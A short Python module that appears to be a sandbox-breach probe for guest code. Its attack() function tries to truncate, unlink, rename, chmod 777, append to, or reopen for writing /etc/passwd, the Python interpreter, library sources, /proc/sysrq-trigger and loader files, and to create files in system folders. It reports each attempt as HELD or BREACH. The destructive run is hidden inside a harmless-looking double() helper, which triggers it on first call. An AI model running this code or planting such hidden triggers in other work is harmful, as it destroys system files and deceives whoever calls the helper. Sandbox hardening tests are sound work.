"""Every way to change a file that one may read: write, truncate, rename, link, change its rights or times."""

import errno
import os
import sys
import sysconfig

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


def list_targets():
    import json
    import numpy

    return [
        "/opt/guest/loader.py", "/opt/guest/__init__.py", json.__file__, numpy.__file__, sys.executable, "/etc/passwd",
        "/usr/bin/env", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/1/oom_score_adj",
    ]


def append(path):
    with open(path, "ab") as file:
        return file.write(b"#") > 0


def reopen(path):
    """A descriptor for reading, opened again for writing by way of /proc."""
    fd = os.open(path, os.O_RDONLY)
    return os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_APPEND) > 0


def attack():
    for path in list_targets():
        attempt(f"append {path}", lambda: append(path))
        attempt(f"truncate {path}", lambda: os.truncate(path, 0) is None)
        attempt(f"rename {path}", lambda: os.rename(path, path + ".left") is None)
        attempt(f"unlink {path}", lambda: os.unlink(path) is None)
        attempt(f"chmod {path}", lambda: os.chmod(path, 0o777) is None)
        attempt(f"times {path}", lambda: os.utime(path, (0, 0)) is None)
        attempt(f"attribute {path}", lambda: os.setxattr(path, "user.left", b"1") is None)
        attempt(f"reopened {path}", lambda: reopen(path))
        attempt(f"link {path}", lambda: os.link(path, path + ".left") is None)
    for folder in ("/", "/opt", "/opt/guest", "/usr/lib", "/etc", "/dev", "/run", "/var", sysconfig.get_path("purelib")):
        attempt(f"a file in {folder}", lambda: os.open(f"{folder}/left", os.O_CREAT | os.O_WRONLY) > 0)
        attempt(f"a file without a name in {folder}", lambda: os.open(folder, os.O_TMPFILE | os.O_WRONLY) > 0)


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
